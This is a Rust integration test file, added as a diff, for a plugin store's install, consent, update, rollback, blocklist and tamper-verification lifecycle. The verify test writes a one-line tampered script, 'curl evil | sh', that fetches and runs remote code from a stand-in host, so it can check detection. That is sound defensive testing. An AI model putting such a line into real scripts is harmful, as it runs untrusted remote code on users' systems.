@@ -1,0 +1,341 @@
+//! The store lifecycle end to end, through the library: a real registry (packed,
+//! signed, built by trellis-index) served on 127.0.0.1, real downloads, real TUF and
+//! DSSE verification, real extraction, journalled activation, recording host hooks.
+
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use std::sync::{Arc, Mutex};
+
+use common::{Plugin, Site, store};
+use semver::Version;
+use trellis_client::consent::Disclosure;
+use trellis_client::events::{ChannelReporter, Event};
+use trellis_client::hooks::{Hook, RecordingHooks};
+use trellis_client::state::InstallReason;
+use trellis_client::store::{AlwaysAgree, Consent, NeverAgree, Session, StoreError, install::parse_requirement};
+use trellis_schema::PluginId;
+
+fn id(s: &str) -> PluginId {
+    s.parse().unwrap()
+}
+
+fn v(s: &str) -> Version {
+    s.parse().unwrap()
+}
+
+/// time-core 1.0.0 and clock 1.0.0 (needs time-core ^1; filesystem + notifications).
+fn clock_site() -> Site {
+    let site = Site::new();
+    site.publish(&[
+        Plugin::new("acme.time-core", "1.0.0"),
+        Plugin::new("acme.clock", "1.0.0")
+            .depends_on("acme.time-core", "^1")
+            .permission("filesystem", "plugin_directory")
+            .permission("notifications", "show"),
+    ]);
+    site
+}
+
+/// Answers every consent question with `answer` and records what it was shown.
+#[derive(Default)]
+struct Asked {
+    answer: bool,
+    shown: Mutex<Vec<Disclosure>>,
+}
+
+impl Asked {
+    fn answering(answer: bool) -> Self {
+        Self { answer, shown: Mutex::default() }
+    }
+    fn shown(&self) -> Vec<Disclosure> {
+        self.shown.lock().unwrap().clone()
+    }
+}
+
+impl Consent for Asked {
+    fn agree(&self, disclosure: &Disclosure) -> bool {
+        self.shown.lock().unwrap().push(disclosure.clone());
+        self.answer
+    }
+}
+
+#[test]
+fn installs_a_plugin_with_its_dependency_after_consent() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let consent = Asked::answering(true);
+    let (reporter, events) = ChannelReporter::new();
+    let session = Session::new(&hooks, &consent).with_reporter(Arc::new(reporter));
+
+    let report = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
+
+    assert_eq!(report.installed, vec![(id("acme.time-core"), v("1.0.0")), (id("acme.clock"), v("1.0.0"))]);
+    let clock = store.state().plugin(&id("acme.clock")).unwrap();
+    assert_eq!((clock.active.version.clone(), clock.reason), (v("1.0.0"), InstallReason::Requested));
+    assert_eq!(clock.active.dependencies, vec![id("acme.time-core")]);
+    assert_eq!(store.state().plugin(&id("acme.time-core")).unwrap().reason, InstallReason::Dependency);
+    // The permissions were shown before anything was downloaded, and agreed to.
+    let shown = consent.shown();
+    let clock_disclosure = shown.iter().find(|d| d.plugin == id("acme.clock")).unwrap();
+    let keys: Vec<&str> = clock_disclosure.permissions.iter().map(|p| p.key.as_str()).collect();
+    assert_eq!(keys, ["filesystem:plugin_directory", "notifications:show"]);
+    assert!(store.state().consents.granted(&id("acme.clock"), &v("1.0.0")).unwrap().contains("notifications:show"));
+    // Files on disk are exactly the signed release plus the kept envelope.
+    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
+    let files = common::files(&dir);
+    for expected in ["plugin.json", "LICENSE", "bin/any/run.sh", "trellis-manifest.json", "trellis-release.dsse"] {
+        assert!(files.contains(expected), "{expected} missing from {files:?}");
+    }
+    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
+    // Hooks in the spec's order for each plugin, dependency first.
+    let trace = hooks.trace();
+    let clock_hooks: Vec<&str> =
+        trace.iter().filter(|t| t.contains(" acme.clock ")).map(|t| t.split(' ').next().unwrap()).collect();
+    assert_eq!(clock_hooks, ["before_install", "register", "start", "after_install"]);
+    let first_core = trace.iter().position(|t| t.contains("acme.time-core")).unwrap();
+    let first_clock = trace.iter().position(|t| t.contains("acme.clock")).unwrap();
+    assert!(first_core < first_clock, "{trace:?}");
+    // Progress events for the downloads.
+    drop(session);
+    let events: Vec<Event> = events.try_iter().collect();
+    assert!(events.iter().any(|e| matches!(e, Event::Downloading { plugin, bytes_done, bytes_total: Some(total), .. }
+        if plugin == &id("acme.clock") && bytes_done == total && *total > 0)));
+    // The vendor namespace is bound to the registry it came from.
+    assert_eq!(store.state().vendor_registry(&"acme".parse().unwrap()).unwrap().as_str(), "main");
+}
+
+#[test]
+fn refused_consent_installs_and_downloads_nothing() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &NeverAgree);
+
+    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();
+
+    assert!(
+        matches!(&error, StoreError::ConsentRefused { plugin, permissions, .. }
+        if plugin == &id("acme.clock") && permissions.len() == 2),
+        "{error}"
+    );
+    assert!(error.to_string().contains("--yes"), "{error}");
+    assert!(store.state().plugins().is_empty());
+    assert!(!store.data_dir().plugins_dir().join("acme.clock").exists());
+    // Index docs and signatures may be cached; no package (a ZIP) was downloaded.
+    let cache = store.data_dir().cache_dir();
+    let cached = if cache.exists() { common::walk(&cache) } else { vec![] };
+    assert!(
+        cached.iter().all(|p| !std::fs::read(p).unwrap().starts_with(b"PK")),
+        "a package was downloaded: {cached:?}"
+    );
+    assert!(hooks.calls().is_empty());
+}
+
+#[test]
+fn remove_refuses_while_dependents_are_installed_and_cascades_on_request() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &AlwaysAgree);
+    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
+    std::fs::create_dir_all(store.data_dir().config_dir(&id("acme.clock"))).unwrap();
+    std::fs::write(store.data_dir().config_dir(&id("acme.clock")).join("alarms.json"), "[]").unwrap();
+
+    let error = store.remove(&id("acme.time-core"), false, &session).unwrap_err();
+    assert!(matches!(&error, StoreError::HasDependents { dependents, .. } if dependents == &[id("acme.clock")]));
+    assert!(error.to_string().contains("acme.clock") && error.to_string().contains("--cascade"), "{error}");
+    assert_eq!(store.state().plugins().len(), 2);
+
+    let removed = store.remove(&id("acme.time-core"), true, &session).unwrap();
+    assert_eq!(removed, vec![id("acme.clock"), id("acme.time-core")]);
+    assert!(store.state().plugins().is_empty());
+    assert!(!store.data_dir().plugin_dir(&id("acme.clock")).exists());
+    assert!(!store.data_dir().config_dir(&id("acme.clock")).exists());
+    let trace = hooks.trace();
+    let tail: Vec<&String> = trace.iter().filter(|t| t.contains("acme.clock") && !t.contains("install")).collect();
+    assert_eq!(
+        tail,
+        [
+            "register acme.clock 1.0.0",
+            "start acme.clock 1.0.0",
+            "before_remove acme.clock 1.0.0",
+            "stop acme.clock 1.0.0",
+            "unregister acme.clock 1.0.0",
+            "after_remove acme.clock 1.0.0"
+        ]
+    );
+}
+
+#[test]
+fn update_asks_again_when_permissions_grow_and_rollback_reactivates_the_previous_release() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    site.publish(&[Plugin::new("acme.clock", "1.1.0")
+        .depends_on("acme.time-core", "^1")
+        .permission("filesystem", "plugin_directory")
+        .permission("notifications", "show")
+        .permission("network", "internet")]);
+    let mut store = {
+        drop(store);
+        common::store(data.path(), &site)
+    };
+
+    let refuse = Asked::answering(false);
+    let error = store.update(&[], &Session::new(&hooks, &refuse)).unwrap_err();
+    assert!(
+        matches!(&error, StoreError::ConsentRefused { permissions, .. } if permissions == &["network:internet"]),
+        "{error}"
+    );
+    let asked = refuse.shown();
+    assert_eq!(asked.len(), 1);
+    let new: Vec<&str> = asked[0].unconsented().map(|p| p.key.as_str()).collect();
+    assert_eq!(new, ["network:internet"], "only the added permission needs consent");
+    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
+
+    let agree = Asked::answering(true);
+    let report = store.update(&[], &Session::new(&hooks, &agree)).unwrap();
+    assert_eq!(report.updated, vec![(id("acme.clock"), v("1.0.0"), v("1.1.0"))]);
+    let clock = store.state().plugin(&id("acme.clock")).unwrap().clone();
+    assert_eq!(clock.active.version, v("1.1.0"));
+    assert_eq!(clock.previous.unwrap().version, v("1.0.0"));
+    assert!(store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0")).is_dir(), "previous release kept");
+    let trace = hooks.trace();
+    let n = trace.len();
+    assert_eq!(
+        &trace[n - 4..],
+        [
+            "before_update acme.clock 1.1.0",
+            "stop acme.clock 1.0.0",
+            "start acme.clock 1.1.0",
+            "after_update acme.clock 1.1.0"
+        ]
+    );
+
+    let back = store.rollback(&id("acme.clock"), &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    assert_eq!(back, v("1.0.0"));
+    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
+    let trace = hooks.trace();
+    let n = trace.len();
+    assert_eq!(&trace[n - 2..], ["stop acme.clock 1.1.0", "start acme.clock 1.0.0"]);
+    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
+}
+
+#[test]
+fn update_rolls_back_automatically_when_the_new_release_fails_to_start() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &AlwaysAgree);
+    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
+    site.publish(&[Plugin::new("acme.clock", "1.1.0").depends_on("acme.time-core", "^1")]);
+    let mut store = {
+        drop(store);
+        common::store(data.path(), &site)
+    };
+    hooks.fail(Hook::Start, &id("acme.clock"), Some(v("1.1.0")));
+
+    let report = store.update(&[id("acme.clock")], &session).unwrap();
+
+    assert!(report.updated.is_empty());
+    assert_eq!(report.rolled_back.len(), 1);
+    assert!(report.rolled_back[0].2.contains("rolled back to 1.0.0"), "{}", report.rolled_back[0].2);
+    let clock = store.state().plugin(&id("acme.clock")).unwrap();
+    assert_eq!(clock.active.version, v("1.0.0"));
+    assert!(store.state().pending().is_none());
+    assert!(!store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0")).exists());
+    let trace = hooks.trace();
+    let n = trace.len();
+    assert_eq!(&trace[n - 3..], ["stop acme.clock 1.0.0", "start acme.clock 1.1.0", "start acme.clock 1.0.0"]);
+    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
+}
+
+#[test]
+fn corrupted_package_blob_is_refused_and_the_running_release_is_untouched() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &AlwaysAgree);
+    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
+    site.publish(&[Plugin::new("acme.clock", "1.1.0").depends_on("acme.time-core", "^1")]);
+    let blob = site.blob_files("acme.clock-1.1.0.zip");
+    assert_eq!(blob.len(), 1);
+    let mut bytes = std::fs::read(&blob[0]).unwrap();
+    let middle = bytes.len() / 2;
+    bytes[middle] ^= 0xff;
+    std::fs::write(&blob[0], bytes).unwrap();
+    let mut store = {
+        drop(store);
+        common::store(data.path(), &site)
+    };
+    let calls_before = hooks.calls().len();
+
+    let error = store.update(&[], &session).unwrap_err();
+
+    assert!(matches!(&error, StoreError::Download { plugin, .. } if plugin == &id("acme.clock")), "{error}");
+    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
+    assert_eq!(hooks.calls().len(), calls_before, "the running release was never stopped");
+    assert!(!store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0")).exists());
+}
+
+#[test]
+fn blocklisted_plugins_are_refused_and_installed_copies_are_stopped() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &AlwaysAgree);
+    store.install(&[parse_requirement("acme.time-core").unwrap()], &session).unwrap();
+    site.block("acme.time-core", "steals data");
+    let mut store = {
+        drop(store);
+        common::store(data.path(), &site)
+    };
+
+    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();
+    assert!(matches!(error, StoreError::Resolve(_)), "{error}");
+    assert!(store.state().plugin(&id("acme.clock")).is_none());
+
+    let check = store.check_updates(&[], &session).unwrap();
+    assert_eq!(check.blocked, vec![(id("acme.time-core"), v("1.0.0"), "steals data".to_owned())]);
+    assert_eq!(hooks.trace().last().unwrap(), "stop acme.time-core 1.0.0");
+    let record = store.state().plugin(&id("acme.time-core")).unwrap();
+    assert_eq!(record.disabled.as_deref(), Some("blocklisted: steals data"));
+    // A second check does not stop it again.
+    let calls = hooks.calls().len();
+    store.check_updates(&[], &session).unwrap();
+    assert_eq!(hooks.calls().len(), calls);
+}
+
+#[test]
+fn verify_reports_changed_missing_and_added_files() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
+    std::fs::write(dir.join("bin/any/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    std::fs::remove_file(dir.join("LICENSE")).unwrap();
+    std::fs::write(dir.join("bin/any/extra.sh"), "x").unwrap();
+
+    let reports = store.verify(&[id("acme.clock")]).unwrap();
+
+    assert_eq!(reports.len(), 1);
+    let problems: Vec<String> = reports[0]
+        .problems
+        .iter()
+        .map(|p| format!("{}: {}", p.path, p.problem.split(' ').take(2).collect::<Vec<_>>().join(" ")))
+        .collect();
+    assert_eq!(problems, ["LICENSE: is missing", "bin/any/run.sh: was changed", "bin/any/extra.sh: is not"]);
+}
